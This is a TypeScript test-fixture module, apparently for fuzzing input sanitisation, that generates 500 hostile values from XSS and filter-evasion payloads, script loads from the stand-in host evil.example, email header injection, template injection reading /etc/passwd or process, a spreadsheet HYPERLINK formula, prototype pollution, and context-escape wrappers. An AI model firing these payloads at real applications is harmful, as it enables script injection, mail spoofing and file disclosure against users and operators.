// 500 values that somebody may put into a name, a title or an address: markup that runs, ways out of each place
// a value can stand in, headers, second recipients, templates, and the spellings in which filters miss them.

/** What would run, command or go elsewhere if it were let. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)//',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert&lpar;1&rpar;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<mj-raw><script>alert(1)</script></mj-raw>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  ' onmouseover=alert(1) x=',
  ' style=position:fixed;background:url(javascript:alert(1)) x=',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'Bcc: evil@evil.example',
  'To: evil@evil.example\r\nSubject: other\r\n\r\nother body',
  'evil@evil.example, second@evil.example',
  '{{ 6 | times: 7 }}',
  '{% for i in (1..9) %}{{ i }}{% endfor %}',
  '{{ constructor.constructor("return process")() }}',
  '{% include "/etc/passwd" %}',
  '${6*7}',
  '<%= 6*7 %>',
  '=HYPERLINK("http://evil.example","x")',
  '{"__proto__":{"polluted":1}}',
  '\u202egnp.exe\u202c',
  '\ud83d',
]

/** What closes the place that the value stands in, and the spellings that hide it. */
const WAYS_OUT: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `" ${payload} "`,
  (payload) => `--!>--><!-- -->${payload}`,
  (payload) => `</title></textarea></style>${payload}`,
  (payload) => `\r\n${payload}\r\n`,
  (payload) => `\u2028${payload}\u0085`,
  (payload) => `\u0000${payload}\u000b`,
  (payload) => payload.replaceAll(/[<>"']/g, (letter) => `&#${letter.charCodeAt(0)};`),
]

/** The same 500 each time, all different. */
export const HOSTILE_VALUES: readonly string[] = WAYS_OUT.flatMap((wayOut, place) =>
  // Where a way out leaves a value as it was, its number tells the two apart.
  PAYLOADS.map((payload) =>
    wayOut(payload) === payload && place > 0 ? `${payload} ${place}` : wayOut(payload),
  ),
)
